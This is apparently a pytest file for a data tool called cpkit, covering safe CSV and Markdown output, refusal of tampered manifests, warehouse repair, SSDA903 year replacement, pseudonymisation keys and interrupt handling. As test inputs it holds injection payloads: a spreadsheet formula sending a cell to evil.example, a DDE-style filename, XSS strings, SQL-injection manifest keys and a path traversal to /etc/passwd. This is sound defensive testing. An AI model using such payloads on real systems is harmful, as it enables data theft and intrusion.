"""Hostile text stays data in every output; damaged warehouses are repaired; ids that would
not link are caught; SSDA903 years are not replaced silently; signals end cleanly."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from conftest import FIXTURES, Cli, Ingest, read_table
from cpkit.csvcells import safe_cell
from cpkit.errors import DataError, WorkspaceError
from cpkit.render.documents import md_cell, md_text, narrative_html, narrative_md
from cpkit.warehouse import MANIFEST_NAME, Manifest, connect
from cpkit.warehouse.repair import repair
from cpkit.workspace import Workspace, init_workspace

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tcmd",
    "\rcmd",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cells_that_a_spreadsheet_would_run_are_prefixed(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload
    assert safe_cell(-5) == -5 and safe_cell("Young people") == "Young people"


def test_quarantine_csv_holds_no_live_formula(
    ingest: Ingest, workspace: Workspace, tmp_path: Path
) -> None:
    path = tmp_path / "=cmd|' calc'!A0.csv"
    path.write_text(
        "Action ID,Date raised,Ask,Theme,Status,Date delivered\n"
        '=1+2,12/06/2023,=HYPERLINK("http://x"),Your Home,Done,not a date\n',
        encoding="utf-8",
    )
    report = ingest(path)
    assert report.committed
    [export] = workspace.quarantine_dir.glob("*.csv")
    rows = list(csv.DictReader(io.StringIO(export.read_text(encoding="utf-8"))))
    assert rows and all(not v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
    assert rows[0]["file"].startswith("'=")


def test_metrics_csv_holds_no_live_formula(
    cli: Cli, ingest: Ingest, workspace: Workspace, tmp_path: Path
) -> None:
    ingest("advocacy_comma.csv")
    result = cli(
        "metrics", "advocacy", "--year", "2023-24", "--format", "csv", "-w", workspace.root
    )
    assert result.code in (0, 1), result.err  # 1: some metrics lack an input column
    assert result.out.count("\n") > 5
    for row in csv.reader(io.StringIO(result.out)):
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            if cell.startswith("-"):
                float(cell)  # a negative number, not text


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        "[click me](javascript:alert(1))",
        "![tracker](https://evil.example/pixel.png)",
        "<https://evil.example>",
        "# not a heading",
        "> not a quote",
    ],
)
def test_data_text_is_inert_markdown(payload: str) -> None:
    from markdown_it import MarkdownIt

    for escaped in (md_text(payload), md_cell(payload)):
        html = MarkdownIt("commonmark").render(escaped)
        assert "<script" not in html and "<img" not in html and "<a " not in html, html
        assert "<h1" not in html and "<blockquote" not in html, html


@pytest.mark.parametrize(
    ("text", "in_text", "in_cell"),
    [
        ("-1 (-17%)", "-1 (-17%)", "-1 (-17%)"),  # a change: a number, never escaped
        ("-1; -17% since 2021-22", "-1; -17% since 2021-22", "-1; -17% since 2021-22"),
        ("- none -", "\\- none -", "- none -"),  # a list item only outside a cell
        ("1. First", "1\\. First", "1. First"),  # escaped as Markdown reads it: 1\.
        ("#5 on the list", "#5 on the list", "#5 on the list"),  # no space: not a heading
        ("---", "\\---", "---"),
        ("# Heading", "\\# Heading", "\\# Heading"),
    ],
)
def test_markdown_escapes_only_what_it_would_misread(text: str, in_text: str, in_cell: str) -> None:
    from markdown_it import MarkdownIt

    assert md_text(text) == in_text and md_cell(text) == in_cell
    parser = MarkdownIt("commonmark").enable("table")
    assert parser.render(md_text(text)) == f"<p>{text}</p>\n"
    table = parser.render(f"| A |\n|---|\n| {md_cell(text)} |\n")
    assert f"<td>{text}</td>" in table


def test_narrative_loads_and_runs_nothing() -> None:
    text = (
        "Our year ![photo](https://evil.example/a.png) and <img src=https://e.example/b.png> "
        "<script>x()</script> [bad](javascript:alert(1)) [good](https://www.gov.uk)"
    )
    html = str(narrative_html(text))
    assert (
        "<img" not in html and "<script" not in html and "javascript:" not in html.split("[bad]")[0]
    )
    assert '<a href="https://www.gov.uk">good</a>' in html
    assert "photo (image not included)" in html
    markdown = narrative_md(text)
    assert "](https://evil" not in markdown and "<img" not in markdown and "<script" not in markdown
    assert "[good](https://www.gov.uk)" in markdown


# --------------------------------------------------------------------------- manifest


@pytest.mark.parametrize(
    "edit",
    [
        lambda m: m["datasets"].update(
            {
                "x AS SELECT 1; DROP VIEW y; --": {
                    "files": [],
                    "rows": 0,
                    "columns_present": [],
                    "updated": "",
                }
            }
        ),
        lambda m: m["datasets"]["advocacy_referrals"].update(
            {"files": ["../../etc/passwd.parquet"]}
        ),
        lambda m: m["datasets"]["advocacy_referrals"].update({"files": ["/etc/x.parquet"]}),
        lambda m: m["datasets"]["advocacy_referrals"].update({"rows": "many"}),
        lambda m: m.update({"ingests": {"not": "a list"}}),
        lambda m: m["ingests"][0].update({"dataset": "a'); select 1; --"}),
    ],
)
def test_an_edited_manifest_is_refused_not_run(
    ingest: Ingest, workspace: Workspace, edit: object
) -> None:
    ingest("advocacy_comma.csv")
    path = workspace.warehouse_dir / MANIFEST_NAME
    data = json.loads(path.read_text())
    edit(data)  # type: ignore[operator]
    path.write_text(json.dumps(data))
    with pytest.raises(WorkspaceError, match=r"manifest .* is damaged.*cpkit repair"):
        connect(workspace.warehouse_dir)


# --------------------------------------------------------------------------- repair


def _two_datasets(ingest: Ingest) -> None:
    ingest("advocacy_rules.csv", "board_actions_utf8.csv")


def test_repair_rebuilds_a_damaged_manifest(cli: Cli, ingest: Ingest, workspace: Workspace) -> None:
    _two_datasets(ingest)
    before = read_table(workspace, "SELECT count(*) FROM advocacy_referrals")
    manifest = Manifest.load(workspace.warehouse_dir)
    (workspace.warehouse_dir / MANIFEST_NAME).write_text('{"datasets": {"advoc')
    result = cli("ingest", FIXTURES / "advocacy_comma.csv", "-w", workspace.root)
    assert result.code == 2 and "Run 'cpkit repair'" in result.err
    result = cli("repair", "-w", workspace.root)
    assert result.code == 0, result.err
    assert "rebuilt from the Parquet files (2 datasets)" in result.out
    rebuilt = Manifest.load(workspace.warehouse_dir)
    assert set(rebuilt.datasets) == set(manifest.datasets)
    assert read_table(workspace, "SELECT count(*) FROM advocacy_referrals") == before
    old = {(r.file, r.accepted, r.quarantined) for r in manifest.ingests}
    assert {(r.file, r.accepted, r.quarantined) for r in rebuilt.ingests} == old
    assert cli("ingest", FIXTURES / "advocacy_comma.csv", "-w", workspace.root).code == 0


def test_repair_sets_aside_a_damaged_dataset_and_keeps_the_others(
    cli: Cli, ingest: Ingest, workspace: Workspace
) -> None:
    _two_datasets(ingest)
    [part] = workspace.warehouse_dir.glob("board_actions/*.parquet")
    part.write_bytes(part.read_bytes()[:200])
    result = cli("metrics", "corporate-parenting", "--year", "2023-24", "-w", workspace.root)
    assert result.code == 2
    assert f"the warehouse file {part} of dataset board_actions is damaged" in result.err
    result = cli("repair", "-w", workspace.root)
    assert result.code == 0, result.err
    assert "Set aside (its Parquet file is missing or damaged): board_actions" in result.out
    assert "cpkit ingest '" in result.out and "board_actions_utf8.csv'" in result.out
    manifest = Manifest.load(workspace.warehouse_dir)
    assert set(manifest.datasets) == {"advocacy_referrals"}
    assert read_table(workspace, "SELECT count(*) FROM advocacy_referrals")[0][0] > 0
    assert cli("repair", "-w", workspace.root).out.startswith("Nothing to repair")


def test_repair_restores_an_issue_table_from_its_quarantine_csv(
    ingest: Ingest, workspace: Workspace
) -> None:
    ingest("advocacy_rules.csv")
    [record] = Manifest.load(workspace.warehouse_dir).ingests
    issues = workspace.warehouse_dir / str(record.issues_file)
    original = pq.read_table(issues)
    issues.write_bytes(b"not parquet")
    result = repair(workspace.warehouse_dir, workspace.quarantine_dir, "repair-1")
    assert result.issues_restored == ["advocacy_rules.csv"]
    assert pq.read_table(issues).equals(original)


# --------------------------------------------------------------------------- SSDA903 years


def _header(folder: Path, name: str, children: int) -> Path:
    folder.mkdir(exist_ok=True)
    lines = ["CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB"]
    lines += [f"{900100 + i},1,14/02/2008,WBRI,,," for i in range(children)]
    path = folder / name
    path.write_text("\n".join(lines) + "\n")
    return path


def test_a_much_smaller_return_for_a_year_needs_confirming(
    cli: Cli, ingest: Ingest, workspace: Workspace, tmp_path: Path
) -> None:
    ingest(_header(tmp_path / "a", "header_2024.csv", 30))
    small = _header(tmp_path / "b", "header_2024_part.csv", 3)
    with pytest.raises(DataError, match="hold 3 children where the warehouse holds 30"):
        ingest(small)
    assert read_table(workspace, "SELECT count(*) FROM ssda903_header") == [(30,)]
    result = cli("ingest", small, "-w", workspace.root)
    assert result.code == 1 and "--replace-year" in result.err
    result = cli("ingest", small, "--replace-year", "-w", workspace.root)
    assert result.code == 0, result.err
    assert "replaces collection year 2024 of ssda903_header: 30 children from header_2024.csv" in (
        " ".join(result.out.split())
    )
    assert read_table(workspace, "SELECT count(*) FROM ssda903_header") == [(3,)]


def test_a_return_split_across_files_ingests_in_one_run(
    ingest: Ingest, workspace: Workspace, tmp_path: Path
) -> None:
    ingest(_header(tmp_path / "a", "header_2024.csv", 30))
    folder = tmp_path / "split"
    _header(folder, "header_2024_part1.csv", 3)
    (folder / "header_2024_part2.csv").write_text(
        "CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB\n"
        + "".join(f"{900200 + i},2,01/03/2009,WBRI,,,\n" for i in range(27))
    )
    report = ingest(folder)
    assert report.committed
    assert read_table(workspace, "SELECT count(*) FROM ssda903_header") == [(30,)]


# --------------------------------------------------------------------------- keys and ids


def test_a_different_key_is_refused(cli: Cli, ingest: Ingest, workspace: Workspace) -> None:
    ingest("advocacy_comma.csv")
    with pytest.raises(WorkspaceError, match="holds data pseudonymised with the current key"):
        init_workspace(workspace.root, new_secret=True)
    (workspace.root / ".cpkit-secret").write_text("ab" * 32 + "\n")
    result = cli("ingest", FIXTURES / "board_actions_utf8.csv", "-w", workspace.root)
    assert result.code == 2
    assert "is not the key the warehouse" in result.err
    assert "put the original .cpkit-secret back" in result.err.lower()


def test_numeric_workbook_ids_and_leading_zero_clashes_are_noted(
    cli: Cli, workspace: Workspace, tmp_path: Path
) -> None:
    import xlsxwriter

    book = xlsxwriter.Workbook(str(tmp_path / "ids.xlsx"))
    sheet = book.add_worksheet("Referrals")
    sheet.write_row(0, 0, ["Referral ID", "Child ID", "Date of Referral", "Cohort"])
    sheet.write_row(1, 0, ["R1", 12345, "03/04/2023", "Child in care"])
    book.close()
    (tmp_path / "ids.csv").write_text(
        "Referral ID,Child ID,Date of Referral,Cohort\nR2,0012345,03/05/2023,Child in care\n"
    )
    result = cli("ingest", tmp_path / "ids.xlsx", tmp_path / "ids.csv", "-w", workspace.root)
    assert result.code == 0, result.err
    out = " ".join(result.out.split())
    assert "child_id: ids are numbers in this workbook" in out
    assert "child_id: 1 id differ only by leading zeros from ids in ids.xlsx" in out
    assert '[privacy] leading_zeros = "strip"' in out
    assert "12345" not in out.replace("0012345 becomes 12345", "")  # no id is shown


def test_strip_leading_zeros_links_the_two_forms(workspace: Workspace, tmp_path: Path) -> None:
    from cpkit.ingest import ingest_paths

    config = workspace.config_path
    config.write_text(config.read_text().replace("[privacy]", '[privacy]\nleading_zeros = "strip"'))
    (tmp_path / "a.csv").write_text(
        "Referral ID,Child ID,Date of Referral,Cohort\nR1,0012345,03/04/2023,Child in care\n"
        "R2,12345,03/05/2023,Child in care\n"
    )
    ingest_paths(Workspace(workspace.root), [tmp_path / "a.csv"])
    assert read_table(workspace, "SELECT count(DISTINCT child_id) FROM advocacy_referrals") == [
        (1,)
    ]


# --------------------------------------------------------------------------- signals


def test_an_interrupt_while_cpkit_starts_prints_one_line() -> None:
    """Ctrl-C (or SIGTERM) during the CLI's imports: one line, no traceback."""
    script = (
        "import sys\n"
        "class Stop:\n"
        "    def find_spec(self, name, path=None, target=None):\n"
        "        if name == 'cpkit.cli':\n"
        "            raise KeyboardInterrupt\n"
        "sys.meta_path.insert(0, Stop())\n"
        "import cpkit.__main__ as entry\n"
        "entry.run()\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, timeout=60
    )
    assert result.returncode == 130
    assert result.stderr == "Error: interrupted while starting; nothing was done.\n"


def test_sigterm_is_handled_like_ctrl_c(workspace: Workspace) -> None:
    script = (
        "import os, signal, sys\n"
        "import cpkit.warehouse.manifest as m\n"
        "real = m.Manifest.save\n"
        "def save(self, w):\n"
        "    os.kill(os.getpid(), signal.SIGTERM)\n"
        "    real(self, w)\n"
        "m.Manifest.save = save\n"
        "from cpkit.cli import main\n"
        "sys.exit(main(sys.argv[1:]))\n"
    )
    result = subprocess.run(
        [
            sys.executable,
            "-c",
            script,
            "ingest",
            str(FIXTURES / "advocacy_comma.csv"),
            "-w",
            str(workspace.root),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "COLUMNS": "200"},
    )
    assert result.returncode == 143, result.stderr
    assert result.stderr.strip() == (
        "Error: terminated before the commit point; nothing was written and the warehouse is "
        "as it was. Run the same command again."
    )
    assert Manifest.load(workspace.warehouse_dir).is_empty
    assert signal.SIGTERM  # the handler is restored in this process


# --------------------------------------------------------------------------- small items


def test_init_keeps_every_private_output_out_of_git(tmp_path: Path) -> None:
    root = init_workspace(tmp_path / "ws").root
    ignored = (root / ".gitignore").read_text().splitlines()
    for entry in (".cpkit-secret", "warehouse/", "quarantine/", "reports/"):
        assert entry in ignored  # reports/ holds the private Markdown, charts and HTML


def test_suppress_below_1_is_refused(cli: Cli, workspace: Workspace) -> None:
    config = workspace.config_path
    text = config.read_text()
    config.write_text(text.replace("suppress_below = 5", "suppress_below = 1", 1))
    result = cli("datasets", "-w", workspace.root)
    assert result.code == 2
    assert "bad value for 'privacy.suppress_below'" in result.err
